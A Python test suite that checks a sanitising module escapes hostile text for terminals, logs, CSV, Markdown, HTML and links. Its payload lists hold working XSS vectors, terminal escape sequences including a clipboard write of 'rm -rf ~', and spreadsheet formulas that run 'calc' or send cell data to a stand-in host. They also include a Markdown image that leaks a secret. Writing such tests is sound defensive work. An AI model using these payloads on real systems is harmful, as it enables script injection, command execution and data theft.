"""Hostile text: every sink shows it and obeys none of it."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from summariser.sanitise import (
    LOG_LIMIT,
    csv_cell,
    csv_text,
    html,
    log_line,
    markdown,
    markdown_cell,
    script_json,
    terminal,
    web_link,
)

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onclick=`alert(1)",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<b>]]>",
    "</textarea></title></style></noscript><iframe src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    '<a href="java\tscript:alert(1)">x</a>',
    "<IMG SRC=`javascript:alert(1)`>",
    "<base href=//stranger.example/>",
    "<meta http-equiv=refresh content=0;url=//stranger.example>",
    "{{constructor.constructor('alert(1)')()}}",
    "\u2028</script\u2029><b>",
    "\x00<\x00script>",
]
TERMINAL_PAYLOADS = [
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://stranger.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "paid\rfree",
    "abc\b\b\bxyz",
    "\x07\x0e\x0f\x7f",
    "\u202egpj.exe",
    "\u2066isolate\u2069 \u200fmark\u061c",
    "zero\u200bwidth\ufeff \u2060",
    "tags \U000e0069\U000e0067\U000e006e",
    "line\u2028separator\u2029",
    "bad name \udcff",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://stranger.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("http://stranger.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "-2+3+cmd|' /C calc'!A0",
    "\tplain",
    "'\n",
]
PLAIN_CELLS = [
    "",
    "plain",
    "a=b",
    "'tis",
    "“Quoted”, he said",
    "-5",
    "+3.5",
    "5-4",
    "100,000",
    "—",
    "− 5",
    "a;b",
]
MARKDOWN_PAYLOADS = [
    "![x](http://stranger.example/?q=SECRET)",
    "[click](javascript:alert(1))",
    "[click][ref]",
    "[ref]: http://stranger.example",
    "[^1]: footnote",
    "<http://stranger.example>",
    "<img src=http://stranger.example/p.png>",
    "<!-- comment -->",
    "&lt;b&gt; &amp;#33;[x](y)",
    "# heading",
    "  ## heading",
    "heading\n===",
    "heading\n---",
    "> quote",
    "- item",
    "* item",
    "+ item",
    "1. item",
    "12) item",
    "---",
    "***",
    "___",
    "```\ncode\n```",
    "~~~\ncode",
    "    indented code",
    "\tindented code",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b\n:-- | --:\nc | d",
    "**bold** _em_ ~~gone~~ `code`",
    "a\\*b\\",
    "$x$ {{ site.secret }} {% include x %}",
    "two  \nspaces",
    "a\r\nb",
]
TEXT = st.text(st.characters(codec="utf-8"), max_size=60)
NASTY = st.lists(
    st.sampled_from([*"\\`*_[]()<>&|~!#$@{}^:/.=+-'\"\t\n\r 1aA;,\x1b\x9b\u202e\u2028", "http://", "www."]),
    max_size=40,
).map("".join)


# Terminal and log


@pytest.mark.parametrize("payload", TERMINAL_PAYLOADS)
def test_terminal_escapes_what_a_terminal_obeys(payload: str) -> None:
    """Sequences that move, recolour, retitle, copy or reorder arrive as visible text."""
    shown = terminal(payload)
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    assert "\\" in shown


def test_terminal_leaves_writing_alone() -> None:
    """Accents, other scripts, joined emoji and typographic marks are not hostile."""
    text = "“Naïve” — Київ, 北京, می\u200cخواهم, 👩\u200d👩\u200d👧, 50 %"
    assert terminal(text) == text


def test_terminal_keeps_lines_where_lines_are_wanted() -> None:
    """Line breaks and tabs stay on request; a lone carriage return, which overwrites, never does."""
    assert terminal("a\r\nb\tc\rd", lines=True) == "a\nb\tc\\rd"
    assert terminal("a\nb\tc") == "a\\nb\\tc"


@given(st.one_of(st.text(max_size=60), NASTY), st.booleans())
def test_terminal_output_has_no_control_byte(text: str, lines: bool) -> None:  # noqa: FBT001 - drawn by hypothesis
    """Whatever comes in, no C0, C1, direction or lone surrogate goes out, and it can be encoded."""
    shown = terminal(text, lines=lines)
    found = set(re.findall("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", shown))
    assert found <= (set("\n\t") if lines else set())
    shown.encode("utf-8")


@given(st.text(max_size=2000), st.integers(min_value=1, max_value=600))
def test_one_text_is_one_short_line(text: str, limit: int) -> None:
    """A log line never breaks and never exceeds its limit."""
    line = log_line(text, limit)
    assert len(line) <= limit
    assert len(line.splitlines()) <= 1


def test_a_cut_log_line_says_so() -> None:
    """A server's long error body ends in an ellipsis; a text at the limit does not."""
    assert log_line("x" * LOG_LIMIT) == "x" * LOG_LIMIT
    assert log_line("x" * (LOG_LIMIT + 1)) == "x" * (LOG_LIMIT - 1) + "…"


# CSV


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_guards_formulas(payload: str) -> None:
    """What a spreadsheet would run, also behind quotes, spaces and invisible characters, is guarded."""
    assert csv_cell(payload) == f"'{payload}"


@pytest.mark.parametrize("text", PLAIN_CELLS)
def test_csv_leaves_plain_cells_alone(text: str) -> None:
    """Words and numbers are not changed for nothing."""
    assert csv_cell(text) == text


def test_csv_keeps_numbers_numbers() -> None:
    """A negative number can be summed; nothing is an empty cell; truth is a word."""
    values: list[float | Decimal | None] = [-3, -0.5, Decimal("-1.20"), 0, None, True, False]
    assert [csv_cell(value) for value in values] == ["-3", "-0.5", "-1.20", "0", "", "true", "false"]


def test_csv_can_be_encoded() -> None:
    """A file name that is not UTF-8 does not end the export."""
    assert csv_cell("a\udcffb") == "a\\udcffb"


@given(st.one_of(TEXT, NASTY, st.sampled_from(FORMULAS + PLAIN_CELLS)))
def test_csv_comes_back(text: str) -> None:
    """Written by the csv module and read again, the guard taken off, a text is what it was."""
    sheet = io.StringIO(newline="")
    csv.writer(sheet).writerow([csv_cell(text), "next"])
    sheet.seek(0)
    (row,) = csv.reader(sheet)
    assert [csv_text(row[0]), row[1]] == [text, "next"]


@given(st.one_of(TEXT, NASTY))
def test_no_cell_starts_a_formula(text: str) -> None:
    """No cell but a plain number starts with a character that a spreadsheet acts on."""
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0")) or re.fullmatch(
        r"[-+][\d.]+", cell, re.ASCII
    )


# Markdown


def _tokens(source: str) -> list[Token]:
    """Return every token of a rendered page, those inside lines included."""
    blocks = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(source)
    return [token for block in blocks for token in (block, *(block.children or ()))]


def _shown(tokens: list[Token]) -> str:
    """Return the words a reader sees."""
    return "".join(
        "\n" if t.type in ("softbreak", "hardbreak") else t.content for t in tokens if t.type != "inline"
    )


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS + HTML_PAYLOADS)
def test_markdown_is_only_text(payload: str) -> None:
    """No payload renders as anything but a paragraph of text."""
    kinds = {token.type for token in _tokens(f"before\n\n{markdown(payload)}\n\nafter")}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "softbreak"}


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS + HTML_PAYLOADS)
def test_markdown_shows_the_text(payload: str) -> None:
    """The reader sees what was written, indentation aside and control characters made visible."""
    expected = "\n".join(line.strip(" \t") for line in terminal(payload, lines=True).split("\n"))
    assert _shown(_tokens(markdown(payload))) == expected


@given(st.one_of(NASTY, TEXT))
def test_markdown_of_anything_is_only_text(text: str) -> None:
    """The two properties above hold for any text."""
    tokens = _tokens(f"before {markdown_cell(text)} after")
    assert {token.type for token in tokens} <= {"paragraph_open", "paragraph_close", "inline", "text"}
    expected = "before " + terminal(re.sub("[ \t\r\n]+", " ", text)).strip(" ") + " after"
    assert _shown(tokens).replace("  ", " ") == expected.replace("  ", " ")


@given(NASTY)
def test_markdown_lines_start_nothing(text: str) -> None:
    """No line of any text opens a heading, list, quotation, code, rule or table."""
    kinds = {token.type for token in _tokens(markdown(text))}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "softbreak"}


@given(st.one_of(NASTY, TEXT))
def test_a_markdown_cell_stays_a_cell(text: str) -> None:
    """A table of one row and two columns keeps that shape, whatever its first cell says."""
    tokens = _tokens(f"| a | b |\n|---|---|\n| {markdown_cell(text)} | end |\n")
    assert sum(token.type == "td_open" for token in tokens) == 2
    assert sum(token.type == "tr_open" for token in tokens) == 2


@pytest.mark.parametrize(
    "bare", ["see https://stranger.example/?q=1", "www.stranger.example", "WWW.stranger.example"]
)
def test_markdown_breaks_bare_links(bare: str) -> None:
    """GitHub links addresses that stand in plain text, so these are broken up too."""
    assert not re.search(r"(?i)://|www\.", markdown(bare).replace("\\:", "").replace("\\.", ""))


# HTML


class _Markup(HTMLParser):
    """Collects what a page is made of."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.made: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made.append(f"{tag} {attrs}")

    def handle_comment(self, data: str) -> None:
        self.made.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.made.append(f"declaration {decl}")

    def handle_data(self, data: str) -> None:
        self.text += data


def _parse(page: str) -> _Markup:
    parser = _Markup()
    parser.feed(page)
    parser.close()
    return parser


@pytest.mark.parametrize("payload", HTML_PAYLOADS + TERMINAL_PAYLOADS)
def test_html_makes_no_element(payload: str) -> None:
    """In content, a payload is text and nothing else."""
    page = _parse(f"<p>{html(payload)}</p>")
    assert page.made == ["p []"]


@given(st.one_of(st.text(max_size=60), NASTY, st.sampled_from(HTML_PAYLOADS)))
def test_html_stays_in_its_attribute(text: str) -> None:
    """In a quoted attribute, any text is the value of that attribute and adds no other."""
    value = re.sub(
        r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", lambda m: ascii(m[0])[1:-1], text.replace("\r\n", "\n")
    )
    assert _parse(f'<p title="{html(text)}">').made == [f"p {[('title', value)]}"]
    assert _parse(f"<p title='{html(text)}'>").made == [f"p {[('title', value)]}"]


def test_html_keeps_the_direction_of_writing() -> None:
    """Marks that a right-to-left article needs are not escaped."""
    assert html("שלום\u200f!") == "שלום\u200f!"


@given(st.one_of(st.text(max_size=60), NASTY, st.sampled_from(HTML_PAYLOADS)))
def test_embedded_json_cannot_leave_its_script(text: str) -> None:
    """JSON in a page means the same and holds no character that could end the element."""
    embedded = script_json({"text": text})
    assert not set(embedded) & set("<>&\u2028\u2029")
    assert json.loads(embedded) == {"text": text}
    embedded.encode("utf-8")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>",
        "//stranger.example",
        "file:///etc/passwd",
        "https://user:password@stranger.example",
        "https://example.org\\@stranger.example",
        "https://exa\tmple.org",
        " https://example.org",
        "https://",
        "http://[::1",
        "https://еxample.org",
        "",
    ],
)
def test_refuses_to_link(url: str) -> None:
    """Only a plain http(s) address becomes a link."""
    assert web_link(url) is None


def test_links_plain_addresses() -> None:
    """An article's own address is kept as it is."""
    assert web_link("https://example.org/a?b=c#d") == "https://example.org/a?b=c#d"
